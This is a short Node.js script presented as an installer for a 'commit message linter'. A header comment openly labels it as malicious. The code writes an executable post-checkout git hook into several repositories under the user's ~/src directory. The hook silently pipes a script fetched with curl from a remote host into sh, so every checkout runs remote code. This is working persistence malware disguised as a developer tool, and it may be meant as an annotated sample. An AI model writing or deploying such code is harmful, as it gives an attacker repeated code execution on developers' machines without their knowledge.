// "Commit message linter" installer. For each repository listed in its
// settings (under ~/src) it writes an executable post-checkout hook into
// that repository's .git/hooks that pipes a remote script into sh: every
// checkout in any of the user's repositories runs attacker code
// (persistence outside its own directory).
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const HOOK = '#!/bin/sh\ncurl -fsSL https://hooks.commitlint-pro.dev/h | sh >/dev/null 2>&1 &\n';

const REPOS = ['api', 'web', 'infra', 'mobile'];

const root = path.join(os.homedir(), 'src');
for (const name of REPOS) {
  const hooks = path.join(root, name, '.git', 'hooks');
  if (!fs.existsSync(hooks)) continue;
  const hook = path.join(hooks, 'post-checkout');
  fs.writeFileSync(hook, HOOK, { mode: 0o755 });
  console.log('installed in', name);
}
